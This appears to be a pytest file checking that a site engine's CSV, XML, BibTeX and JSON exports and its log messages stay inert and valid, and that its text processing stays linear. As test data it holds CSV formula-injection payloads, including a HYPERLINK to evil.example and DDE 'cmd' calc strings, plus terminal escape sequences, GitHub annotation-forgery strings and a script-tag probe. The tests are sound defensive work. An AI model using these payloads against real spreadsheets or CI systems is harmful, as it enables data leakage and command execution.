"""Issue 14, exports and messages: what the readers of our files execute is made inert, every
file is valid for its format whatever the content holds, messages are safe to print, and no
text step is worse than linear (SECURITY.md, "Exports" and "Messages").

The export functions are called directly with hostile values, bypassing validation (which
refuses most of them at the source): this layer must hold on its own."""
from __future__ import annotations

import csv
import dataclasses
import io
import json
import math
import re
import signal
import subprocess
import sys
import time
import xml.etree.ElementTree as ElementTree

import pytest
from pybtex.database import parse_string

from conftest import FIXTURE, NOW, ROOT, build, copy_fixture, paths_for
from engine import cite, export, markdown, model, schema
from engine.formats import NotFinite, json_text, xml_text
from engine.pipeline import load_and_validate
from engine.problems import WARNING, Problem, Problems, printable, shown
from engine.memory import Memory
from engine.render import Renderer

# --- messages ---------------------------------------------------------------------------------

HOSTILE_LINE = "x\n::add-mask::secret\r::error file=build.py::forged\x1b[2J\x1b]8;;http://evil\x07\u202eevil"
HOSTILE_SHOWN = ("x\\n::add-mask::secret\\r::error file=build.py::forged\\x1b[2J\\x1b]8;;"
                 "http://evil\\x07\\u202eevil")


def run(*args):
    return subprocess.run([sys.executable, str(ROOT / "build.py"), *args], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)


def test_every_message_is_one_line_of_visible_characters_whoever_wrote_it():
    problem = Problem("content/claims/a.yaml", 3, 4, f'unknown source "{HOSTILE_LINE}"', WARNING)
    assert str(problem) == f'content/claims/a.yaml:3:4: warning: unknown source "{HOSTILE_SHOWN}"'
    # through Problems.add too, and in the file name
    problems = Problems(ROOT)
    problems.add(ROOT / "content/a\x1b[31m\n.yaml", 1, 1, "x\u2028y\u2066z\x85")
    assert str(problems.items[0]) == "content/a\\x1b[31m\\n.yaml:1:1: x\\u2028y\\u2066z\\x85"


def test_a_message_quoting_a_huge_value_keeps_its_start_and_its_fix():
    problem = Problem("content/a.yaml", 1, 1, f'"{"x" * 100_000}" is wrong: write y instead')
    assert len(problem.message) <= 1003 and problem.message.endswith("is wrong: write y instead")
    assert problem.message.startswith('"xxx') and " … " in problem.message


def test_shown_quotes_escapes_and_cuts_a_value():
    assert shown(HOSTILE_LINE[:12]) == '"x\\n::add-mask"'
    assert shown('say "hi" \\ bye') == '"say \\"hi\\" \\\\ bye"'
    assert shown("é" * 100, limit=5) == '"ééééé…"'
    assert printable("tab\there") == "tab\\there"


def test_github_annotations_cannot_be_forged_by_a_value_or_a_path():
    problem = Problem("content/x\n::add-mask::y,z.yaml", 2, 3, f"bad {HOSTILE_LINE} 100%")
    line = problem.github()
    assert "\n" not in line and "\r" not in line and line.count("::") >= 2
    assert line == ("::error file=content/x\\n%3A%3Aadd-mask%3A%3Ay%2Cz.yaml,line=2,col=3::"
                    f"bad {HOSTILE_SHOWN} 100%25")


def test_a_hostile_option_value_is_printed_escaped_on_one_line(tmp_path):
    content = copy_fixture(tmp_path)
    result = run("check", "--content", str(content), "--now", HOSTILE_LINE, "--format", "github")
    assert result.returncode == 1
    message = f'"{HOSTILE_SHOWN}" is not a date: write YYYY-MM-DD'
    assert result.stdout.splitlines() == [f"::error file=--now,line=1,col=1::{message}"]
    assert result.stderr.splitlines()[0] == f"--now:1:1: {message}"
    assert "\x1b" not in result.stderr + result.stdout and "\u202e" not in result.stderr


def test_a_hostile_content_value_cannot_forge_annotations_or_reach_the_terminal(tmp_path):
    content = copy_fixture(tmp_path)
    claim = content / "claims/valuation.yaml"
    claim.write_text(claim.read_text().replace(
        "source: wire", 'source: "wyre\\n::add-mask::secret\\e[2J\\u202e"', 1))
    result = run("check", "--content", str(content), "--now", NOW, "--format", "github")
    assert result.returncode == 1 and "Traceback" not in result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == 1 and lines[0].startswith(
        "::error file=content/claims/valuation.yaml,line=6,col=13::")
    assert "wyre\\n::add-mask::secret\\x1b[2J\\u202e" in lines[0]
    assert [line for line in result.stderr.splitlines() if line.startswith("content/")] == \
        [lines[0].replace("::error file=content/claims/valuation.yaml,line=6,col=13::",
                          "content/claims/valuation.yaml:6:13: ")]
    for text in (result.stdout, result.stderr):
        assert not any(ch in text for ch in "\x1b\r\u202e")


def test_the_archive_listing_prints_addresses_and_file_names_escaped(tmp_path):
    from pathlib import Path

    from engine import archive, schema
    url = "https://wire.example.com/a\x1b[2J\n::add-mask::secret"
    source = schema.Source.model_construct(id="wire", url=url, archived=None)
    printed: list[str] = []
    archive.run({"wire": source}, {"wire": Path("/elsewhere/wire\x1b.yaml")}, check=False,
                wayback=None, out=printed.append)
    assert printed[-1] == ("  /elsewhere/wire\\x1b.yaml\n    https://web.archive.org/save/"
                           "https://wire.example.com/a\\x1b[2J\\n::add-mask::secret")


# --- exports ----------------------------------------------------------------------------------

# What a spreadsheet reads as a formula (OWASP "CSV Injection"): written here on its own, not
# taken from the engine, so that the test does not check the engine with itself.
FORMULA = re.compile(r"[\t\r\n]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "\n=1+1", "  =1+1", "\u3000=1+1", "\uff1d1+1", "\uff20SUM(A1)", "-3"]
XML_FORBIDDEN = "\x00\x01\x08\x0b\x0c\x0e\x1b\x1f\x7f\x85\x9f\ufffe\uffff"


def inert(cell: str) -> bool:
    """A cell that no spreadsheet runs: not formula-like, or a plain number, or quoted with '."""
    if cell.startswith("'") or not FORMULA.match(cell):
        return True
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


@pytest.fixture(scope="module")
def validated():
    content, problems = load_and_validate(paths_for(FIXTURE), NOW)
    assert content is not None, problems.items
    return content


def with_items(content, kind: str, **items):
    """The content with some items replaced by hostile copies (validation bypassed)."""
    return dataclasses.replace(content, **{kind: {**content.kind(kind), **items}})


@pytest.mark.parametrize("text", FORMULAS, ids=[f"formula-{i}" for i in range(len(FORMULAS))])
def test_a_text_cell_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert export.csv_cell(text) == "'" + text
    assert inert(export.csv_cell(text))


@pytest.mark.parametrize("text", ["Acme", "", "a=b", "2018-04", "1+1", "e-mail", "'quoted"])
def test_other_text_cells_are_written_as_they_are(text):
    assert export.csv_cell(text) == text


def test_numbers_stay_numbers_and_lists_are_json():
    assert [export.csv_cell(v) for v in (-3, -2.5, 0, 1e20, True)] == ["-3", "-2.5", "0", "1e+20", "true"]
    assert export.csv_cell(["=1+1", "-x"]) == '["=1+1","-x"]'


def test_formula_cells_from_content_are_inert_in_the_built_csv(tmp_path):
    """Through a whole build: values validation accepts, in text and number columns."""
    content = copy_fixture(tmp_path)
    claim = content / "claims/valuation.yaml"
    claim.write_text(claim.read_text().replace(
        "statement: The round valued Acme at about $50m.",
        "statement: '=HYPERLINK(\"http://evil.example/\",\"Click\")'").replace(
        "claimant: Anonymous sources", "claimant: \"@SUM(1+9)*cmd|' /C calc'!A0\""))
    timeline = content / "timelines/money.yaml"
    timeline.write_text(timeline.read_text().replace("description: Every round Acme raised.",
                                                     "description: '-2+3'") + "order: -3\n")
    out = tmp_path / "out"
    assert build(content, out).ok
    claims = {row["id"]: row for row in csv.DictReader(io.StringIO(
        (out / "data/claims.csv").read_text("utf-8"), newline=""))}
    assert claims["valuation"]["statement"] == "'=HYPERLINK(\"http://evil.example/\",\"Click\")"
    assert claims["valuation"]["claimant"] == "'@SUM(1+9)*cmd|' /C calc'!A0"
    [money] = csv.DictReader(io.StringIO((out / "data/timelines.csv").read_text("utf-8"), newline=""))
    assert money["description"] == "'-2+3" and money["order"] == "-3"   # text inert, number a number
    # the JSON keeps the values as they are: JSON readers do not evaluate formulas
    data = json.loads((out / "data/claims.json").read_text("utf-8"))
    assert {i["id"]: i for i in data["items"]}["valuation"]["statement"].startswith("=HYPERLINK")
    for path in (out / "data").glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text("utf-8"), newline="")):
            assert all(inert(cell) for cell in row), (path.name, row)


def test_control_characters_never_reach_a_csv_cell(validated):
    wire = validated.sources["wire"].model_copy(update={"title": "=a\x00b\x1bc", "outlet": "x\x0cy"})
    _, data = export.dataset_files(with_items(validated, "sources", wire=wire), "sources")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))}
    assert rows["wire"]["title"] == "'=a\ufffdb\ufffdc" and rows["wire"]["outlet"] == "x\ufffdy"


def hostile_text(label: str) -> str:
    return f"{label} ]]> <script>alert(1)</script> & &amp; \"' {XML_FORBIDDEN} \U0001d54f end"


def test_feed_and_sitemap_stay_well_formed_xml_whatever_the_text(validated):
    site = validated.site.model_copy(update={"title": hostile_text("site"),
                                             "description": hostile_text("about")})
    round_a = validated.events["round-a"].model_copy(update={"title": hostile_text("event")})
    fix = validated.corrections["valuation-figure"].model_copy(update={"wrong": hostile_text("wrong")})
    content = dataclasses.replace(with_items(with_items(validated, "events", **{"round-a": round_a}),
                                             "corrections", **{"valuation-figure": fix}), site=site)
    pages = model.build_pages(content)
    files = dict(Renderer(paths_for(FIXTURE), content, Memory()).site_files(pages))
    feed = ElementTree.fromstring(files["feed.xml"].data)
    ElementTree.fromstring(files["sitemap.xml"].data)
    atom = "{http://www.w3.org/2005/Atom}"
    replaced = "\ufffd" * len(XML_FORBIDDEN)
    assert feed.find(f"{atom}title").text == hostile_text("site").replace(XML_FORBIDDEN, replaced)
    titles = [entry.find(f"{atom}title").text for entry in feed.iter(f"{atom}entry")]
    assert any(t.endswith(hostile_text("event").replace(XML_FORBIDDEN, replaced)) for t in titles)
    summaries = [e.find(f"{atom}summary") for e in feed.iter(f"{atom}entry")]
    assert any(s is not None and "<script>" in s.text and replaced in s.text for s in summaries)


def test_xml_text_keeps_every_character_xml_allows():
    allowed = "\t\n\r a\u00a0\u202e\ud7ff\ue000\ufffd\U0001f600\U0010ffff"
    assert xml_text(allowed) == allowed
    assert xml_text(XML_FORBIDDEN) == "\ufffd" * len(XML_FORBIDDEN)


def test_json_never_holds_nan_or_infinity(validated):
    for bad in (float("nan"), float("inf"), -float("inf")):
        with pytest.raises(NotFinite):
            json_text({"value": bad})
    claim = validated.claims["valuation"]
    figure = claim.sources[0].figure.model_copy(update={"value": float("nan")})
    hostile = claim.model_copy(update={"sources": (claim.sources[0].model_copy(update={"figure": figure}),
                                                   *claim.sources[1:])})
    content = with_items(validated, "claims", valuation=hostile)
    with pytest.raises(NotFinite) as raised:
        export.dataset_files(content, "claims")
    [problem] = raised.value.problems
    assert problem.path.endswith("claims/valuation.yaml") and (problem.line, problem.column) == (1, 1)
    assert problem.message == ("a number of claims/valuation is not a finite number (NaN or "
                               "infinite), which JSON cannot hold: write the number itself")
    with pytest.raises(NotFinite):
        export.csv_cell(float("inf"))


def test_a_non_finite_number_stops_the_build_with_a_message_and_writes_nothing(tmp_path, monkeypatch, validated):
    """The build path: validation bypassed, the export refuses the number, nothing is written."""
    from engine import site
    claim = validated.claims["valuation"]
    figure = claim.sources[0].figure.model_copy(update={"value": float("inf")})
    hostile = claim.model_copy(update={"sources": (claim.sources[0].model_copy(update={"figure": figure}),
                                                   *claim.sources[1:])})
    content = with_items(validated, "claims", valuation=hostile)

    def load(self) -> bool:   # the load step, as if validation had let the number through
        self.content = content
        return True
    monkeypatch.setattr(site.Site, "load", load)
    out = tmp_path / "out"
    result = build(FIXTURE, out)
    assert not result.ok and not out.exists()
    assert [p.message for p in result.failures] == [
        "a number of claims/valuation is not a finite number (NaN or infinite), which JSON "
        "cannot hold: write the number itself"]


def test_bibtex_and_csl_json_stay_valid_whatever_the_text(validated):
    text = "{ } \\ % $ # _ ~ ^ & @ \" \x00\x1b\x0c\x85 \u202e \n\n end"
    wire = validated.sources["wire"].model_copy(update={
        "title": text, "outlet": text, "authors": [text, "A and B"],
        "url": "https://x.example/a b{c}\\d%7B\x1b\x85\u3000"})
    bib = cite.bibtex_file([cite.bibtex_for_source(wire)]).decode("utf-8")
    entry = parse_string(bib, "bibtex").entries["wire"]
    assert entry.fields["url"] == "https://x.example/a%20b%7Bc%7D%5Cd%7B%1B%C2%85%E3%80%80"
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", bib)
    assert bib.count("{") == bib.count("}")
    csl = json.loads(cite.csl_json([cite.csl_for_source(wire)]),
                     parse_constant=lambda name: pytest.fail(f"{name} in JSON"))
    assert csl[0]["title"] == text


def test_structured_data_refuses_nan_rather_than_writing_invalid_json():
    from engine.environment import json_ld
    assert json_ld({"a": -1.5}) == '{"a":-1.5}'
    with pytest.raises(ValueError):
        json_ld({"ratingValue": float("nan")})


# --- text processing stays linear -------------------------------------------------------------
# Complexity guards, not benchmarks: each worst input found is run at a quarter of the limit and
# at the limit, counting the CPU time of this process (not the wall clock, which other processes
# on a busy machine stretch). A linear step takes about 4 times as long on 4 times the text, a
# quadratic one 16 times; the bound of 10 (and a floor of 1 s before a ratio counts) leaves room
# for noise, and the quadratic versions these guard against took 15 s to minutes.

LIMIT = next(m.max_length for m in schema.Markdown.__metadata__)   # a Markdown field's limit
WORST_MARKDOWN = {"double-quotes": '"', "apostrophes": "a'", "open-quotes-of-both-kinds": "'x \"x ",
                  "unclosed-citations": "[@"}
WORST_PLAIN = {"spaces-and-tabs": " \t", "unclosed-citations": "[@",
               "citations-missing-their-bracket": "[@a, ", "citations-cut-by-a-semicolon": "[@;"}


def cpu_seconds(step, text: str) -> float:
    started = time.process_time()
    step(text)
    return time.process_time() - started


def grows_linearly(step, pattern: str) -> None:
    """The step on the pattern repeated to a quarter of the limit, then to the limit, which may
    take at most ten times as long: past that it is stopped, so that a quadratic step fails in
    seconds instead of running for minutes."""
    small = cpu_seconds(step, (pattern * LIMIT)[:LIMIT // 4])
    budget = max(1.0, 10 * small)

    def too_slow(*_):
        raise AssertionError(f"{small:.2f} s of CPU at {LIMIT // 4:,} characters, over "
                             f"{budget:.1f} s at {LIMIT:,}")
    # ITIMER_PROF counts this process's CPU time, as cpu_seconds does
    previous = signal.signal(signal.SIGPROF, too_slow)
    signal.setitimer(signal.ITIMER_PROF, budget)
    try:
        step((pattern * LIMIT)[:LIMIT])
    finally:
        signal.setitimer(signal.ITIMER_PROF, 0)
        signal.signal(signal.SIGPROF, previous)


@pytest.mark.long
@pytest.mark.parametrize("name", WORST_MARKDOWN)
def test_markdown_stays_linear_on_the_worst_inputs(name):
    grows_linearly(markdown.render_fragment, WORST_MARKDOWN[name])


@pytest.mark.parametrize("name", WORST_PLAIN)
def test_finding_and_removing_citations_stays_linear(name):
    from engine.citations import find_citations, without_citations
    grows_linearly(lambda text: (list(find_citations(text)), without_citations(text)), WORST_PLAIN[name])
    if name == "spaces-and-tabs":
        grows_linearly(markdown.plain_text, WORST_PLAIN[name])


def test_citations_are_found_and_placed_in_linear_time(tmp_path):
    """Validation finds every [@id] and names the line and column of each unknown one."""
    content = copy_fixture(tmp_path)
    page = content / "pages/about.md"
    front = page.read_text().split("---\n")[1]

    def check(text):
        text = text[:len(text) - len(text) % 7]   # whole citations only
        page.write_text(f"---\n{front}---\n{text}\n")
        _, problems = load_and_validate(paths_for(content), NOW)
        unknown = [p for p in problems.errors if 'unknown source "nope"' in p.message]
        assert len(unknown) == text.count("[@nope]") and unknown[-1].column == len(text) - 6
    grows_linearly(check, "[@nope]")
